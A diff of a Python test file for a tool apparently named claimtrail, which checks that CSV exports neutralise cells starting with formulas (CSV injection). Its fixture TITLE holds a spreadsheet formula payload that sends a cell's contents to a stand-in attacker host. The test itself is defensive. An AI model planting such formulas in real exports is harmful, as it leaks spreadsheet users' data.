@@ -1,6 +1,6 @@
 """CSV that a spreadsheet opens without running anything a document said.
 
-A page whose title and paragraphs start with formulas is ingested for real; every CSV
+A page whose title and paragraphs start with formulas is stored as ingest stores it; every CSV
 claimtrail writes (export csv and acled, sql, search) must then carry those cells with a
 leading ``'`` (OWASP's rule for CSV injection), and ``--raw`` must give them back as
 stored. A canonical link that is not http(s) is not kept as the document's address.
@@ -14,13 +14,13 @@ from html import escape
 from pathlib import Path
 
 import pytest
+from stored import store_files
 from typer.testing import CliRunner
 
 from claimtrail.cli import app
 from claimtrail.db import query_readonly
 from claimtrail.db.store import web_address
 from claimtrail.export import FORMULA_STARTS, inert
-from claimtrail.flows.ingest import ingest
 
 runner = CliRunner()
 TITLE = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open the annex")'
@@ -44,7 +44,7 @@ COMMANDS = {
 def hostile_page(db_url: str, tmp_path: Path) -> str:
     page = tmp_path / "formulas.html"
     page.write_text(PAGE, encoding="utf-8")
-    ingest([str(page)], db_url)
+    store_files([page], db_url)
     return db_url
 
 
